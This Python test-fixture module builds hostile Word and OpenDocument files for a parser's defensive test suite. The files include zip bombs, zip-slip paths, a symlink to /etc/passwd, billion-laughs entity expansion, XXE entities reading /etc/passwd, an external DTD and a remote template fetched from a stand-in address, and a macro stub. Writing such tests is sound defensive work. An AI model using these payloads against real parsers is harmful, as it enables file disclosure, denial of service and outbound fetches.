"""Office files that are bombs, traps, torn, or not what they say."""

import io
import struct
import warnings
import zipfile
from collections.abc import Iterable, Iterator
from functools import cache
from xml.sax.saxutils import escape

from tests.hostile.case import (
    LATIN,
    MEDIA,
    POST,
    RUSSIAN,
    STUFFING,
    Case,
    flagged,
    refused,
)

MEGABYTE = 1024 * 1024
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
URN = "urn:oasis:names:tc:opendocument:xmlns"
DOCUMENT = "word/document.xml"
PLAIN_TYPE = f"{MEDIA['docx']}.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
OWN_FILE = '<!DOCTYPE d [<!ENTITY own SYSTEM "file:///etc/passwd">]>'
OWN_WORDS = "root:x:0"

Part = tuple[str, bytes]


class Filling:
    """So many bytes of one letter between two texts: never held in memory as a whole."""

    def __init__(self, before: bytes, size: int, after: bytes) -> None:
        self.before, self.size, self.after = before, size, after

    def pieces(self) -> Iterator[bytes]:
        """All of it."""
        yield self.before
        for _ in range(self.size // MEGABYTE):
            yield b"x" * MEGABYTE
        yield self.after


def zipped(
    parts: Iterable[tuple[str, bytes | Filling]], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A zip of parts in their order; of one name twice, if that is asked for."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as archive:
        warnings.simplefilter("ignore")  # of names that come twice
        for name, content in parts:
            with archive.open(named(name, method), "w") as part:
                for piece in content.pieces() if isinstance(content, Filling) else (content,):
                    part.write(piece)
    return buffer.getvalue()


def named(name: str, method: int) -> zipfile.ZipInfo:
    """A member; a name that ends in an arrow is a link."""
    member = zipfile.ZipInfo(name.removesuffix("->"))
    member.compress_type = method
    member.create_system = 3
    member.external_attr = (0o120777 if name.endswith("->") else 0o100600) << 16
    return member


def paragraph(text: str, look: str = "") -> str:
    """A paragraph of a Word document; ``look`` is what stands in its run's properties."""
    return f"<w:p><w:r><w:rPr>{look}</w:rPr><w:t>{escape(text)}</w:t></w:r></w:p>"


def document(body: str, doctype: str = "", encoding: str = "UTF-8") -> bytes:
    """The document part of a Word file."""
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>{doctype}<w:document xmlns:w="{WORD}">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode(encoding)


def lines(texts: Iterable[str] = LATIN) -> str:
    """An honest body."""
    return "".join(map(paragraph, texts))


def frame(main_type: str = PLAIN_TYPE) -> list[tuple[str, bytes | Filling]]:
    """The parts that tell what the document is."""
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{DOCUMENT}" '
        f'ContentType="{main_type}"/></Types>'
    )
    return [
        ("[Content_Types].xml", types.encode()),
        ("_rels/.rels", relation("officeDocument", DOCUMENT, "Internal")),
    ]


def relation(kind: str, target: str, mode: str) -> bytes:
    """A part that names one other part or address."""
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def word(xml: bytes | Filling | None = None, *extra: Part) -> bytes:
    """A Word file with a document part and others."""
    main = document(lines()) if xml is None else xml
    return zipped([*frame(), (DOCUMENT, main), *extra])


def open_text(content: bytes | Filling) -> bytes:
    """An OpenDocument text."""
    manifest = (
        f'<m:manifest xmlns:m="{URN}:manifest:1.0"><m:file-entry m:full-path="/" '
        f'm:media-type="{MEDIA["odt"]}"/></m:manifest>'
    )
    return zipped(
        [
            ("mimetype", MEDIA["odt"].encode()),
            ("content.xml", content),
            ("META-INF/manifest.xml", manifest.encode()),
        ]
    )


def open_content(body: str, doctype: str = "") -> bytes:
    """The content of an OpenDocument text."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<o:document-content '
        f'xmlns:o="{URN}:office:1.0" xmlns:t="{URN}:text:1.0"><o:body><o:text>{body}</o:text>'
        "</o:body></o:document-content>"
    ).encode()


def filling(around: bytes, size: int = 130 * MEGABYTE) -> Filling:
    """A text that is far too long, at the place of a bar."""
    before, _, after = around.partition(b"|")
    return Filling(before, size, after)


@cache
def word_bomb() -> bytes:
    """A Word file that unpacks to a thousand times its size."""
    return word(filling(document(paragraph("|"))))


def with_small_claim(data: bytes) -> bytes:
    """A zip whose headers call the document part a small one."""
    changed = bytearray(data)
    for mark, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = changed.find(DOCUMENT.encode(), changed.find(mark))
        while place >= 0:
            start = place - name_at
            if changed[start : start + 4] == mark:
                struct.pack_into("<L", changed, start + size_at, 900)
            place = changed.find(DOCUMENT.encode(), place + 1)
    return bytes(changed)


def listed_often(times: int = 300) -> bytes:
    """A zip that lists one large member again and again, each time under another name."""
    data = word(None, ("word/media/picture000.bin", bytes(5 * MEGABYTE)))
    end = data.rfind(b"PK\x05\x06")
    last = data.rfind(b"PK\x01\x02", 0, end)
    entry = data[last:end]
    more = b"".join(
        entry.replace(b"picture000", b"picture%03d" % number) for number in range(1, times)
    )
    count, size = struct.unpack_from("<HL", data, end + 10)
    tail = bytearray(data[end:])
    struct.pack_into("<HHL", tail, 8, count + times - 1, count + times - 1, size + len(more))
    return data[:end] + more + bytes(tail)


def ole(*streams: str) -> bytes:
    """An old Office file with a directory of empty streams."""
    directory = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack(
            "<HBB3L", 2 * len(name) + 2, 5 if name == "Root Entry" else 2, 1, *[2**32 - 1] * 3
        )
        + bytes(36)
        + struct.pack("<LQ", 2**32 - 2, 0)
        for name in ("Root Entry", *streams)
    )
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<5H6x3L", 62, 3, 0xFFFE, 9, 6, 0, 1, 1)
    head += struct.pack("<6L", 0, 4096, 2**32 - 2, 0, 2**32 - 2, 0) + struct.pack("<L", 0)
    table = struct.pack("<2L", 2**32 - 3, 2**32 - 2)
    return head.ljust(512, b"\xff") + table.ljust(512, b"\xff") + directory.ljust(512, b"\0")


def cases(away: str) -> Iterator[Case]:
    """Word and OpenDocument files; ``away`` is an address that nobody may visit."""
    yield Case("ok_docx", "docx", word(document(lines(RUSSIAN))), seen=(POST,))
    russian = "".join(f"<t:p>{text}</t:p>" for text in RUSSIAN)
    yield Case("ok_odt", "odt", open_text(open_content(russian)), seen=(POST,))
    yield from _bombs()
    yield from _torn()
    yield from _with_entities(away)
    yield from _with_more_inside(away)


def _bombs() -> Iterator[Case]:
    yield refused("docx_bomb_flat", "docx", word_bomb(), "unpacked_too_large")
    yield refused("docx_bomb_lying_size", "docx", with_small_claim(word_bomb()), "corrupt")
    yield refused("docx_bomb_overlap", "docx", listed_often(), "corrupt", "unpacked_too_large")
    inner = zipped([("a", filling(b"|", 40 * MEGABYTE))])
    nested = [(f"word/embeddings/inner{number}.zip", inner) for number in range(4)]
    yield flagged("docx_bomb_nested", "docx", word(None, *nested), "embedded_file")
    many = [(f"word/media/{number}", b"") for number in range(3000)]
    yield refused("docx_many_members", "docx", word(None, *many), "too_many_members")
    content = filling(open_content("<t:p>|</t:p>"))
    yield refused("odt_bomb_flat", "odt", open_text(content), "unpacked_too_large")
    deep = document("<w:p>" * 50_000 + "</w:p>" * 50_000)
    yield refused("docx_deep_xml", "docx", word(deep), "too_deep")


def _torn() -> Iterator[Case]:
    slips = [(name, b"!") for name in ("../../../tmp/out.txt", "/var/out.txt", "..\\..\\out.txt")]
    yield refused("docx_zip_slip", "docx", word(None, *slips), "bad_member_name")
    link = word(None, ("word/media/link->", b"/etc/passwd"))
    yield refused("docx_symlink_member", "docx", link, "bad_member_name")
    twice = word(None, (DOCUMENT, document(paragraph(STUFFING))))
    yield refused("docx_duplicate_member", "docx", twice, "corrupt")
    packed = zipped([*frame(), (DOCUMENT, document(lines()))], zipfile.ZIP_BZIP2)
    yield refused("docx_bzip2_member", "docx", packed, "corrupt")
    whole = word()
    yield refused("docx_truncated", "docx", whole[: len(whole) // 2], "corrupt")
    place = whole.find(DOCUMENT.encode()) + len(DOCUMENT) + 30
    bent = whole[:place] + bytes([whole[place] ^ 0x55]) + whole[place + 1 :]
    yield refused("docx_bad_crc", "docx", bent, "corrupt")
    yield refused("docx_no_document", "docx", zipped([("note.txt", b"!")]), "type_mismatch")


def _with_entities(away: str) -> Iterator[Case]:
    levels = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 9}">' for n in range(10))
    laughs = f'<!DOCTYPE d [<!ENTITY e0 "ha">{levels}]>'
    own = paragraph("@").replace("@", "&own;")
    bodies = {
        "docx_billion_laughs": document(own.replace("own", "e10"), laughs),
        "docx_quadratic": document(
            own.replace("&own;", "&long;" * 50_000),
            f'<!DOCTYPE d [<!ENTITY long "{"x" * 50_000}">]>',
        ),
        "docx_xxe_file": document(own, OWN_FILE),
        "docx_xxe_net": document(
            lines(), f'<!DOCTYPE d [<!ENTITY % out SYSTEM "{away}/out.dtd"> %out;]>'
        ),
        "docx_xxe_utf16": document(own, OWN_FILE, "UTF-16"),
    }
    for case_id, xml in bodies.items():
        yield refused(case_id, "docx", word(xml), "dtd_forbidden")
    text = open_text(open_content("<t:p>&own;</t:p>", OWN_FILE))
    yield refused("odt_xxe_file", "odt", text, "dtd_forbidden")


def _with_more_inside(away: str) -> Iterator[Case]:
    template = relation("attachedTemplate", f"{away}/look.dotm", "External")
    remote = word(None, ("word/_rels/document.xml.rels", template))
    yield flagged("docx_remote_template", "docx", remote, "external_reference")
    program = ("word/vbaProject.bin", ole("VBA"))
    macro = zipped([*frame(MACRO_TYPE), (DOCUMENT, document(lines())), program])
    yield refused("docx_macro", "docx", macro, "macro")
    locked = ole("EncryptionInfo", "EncryptedPackage")
    yield refused("docx_encrypted", "docx", locked, "encrypted")
    yield refused("docx_legacy_doc", "docx", ole("WordDocument", "0Table"), "type_mismatch")
    looks = ("<w:vanish/>", '<w:color w:val="FFFFFF"/>', '<w:sz w:val="1"/>')
    unseen = "".join(paragraph(STUFFING, look) for look in looks)
    hidden = word(document(lines() + unseen))
    yield flagged("docx_hidden_text", "docx", hidden, "hidden_text", STUFFING[:30])
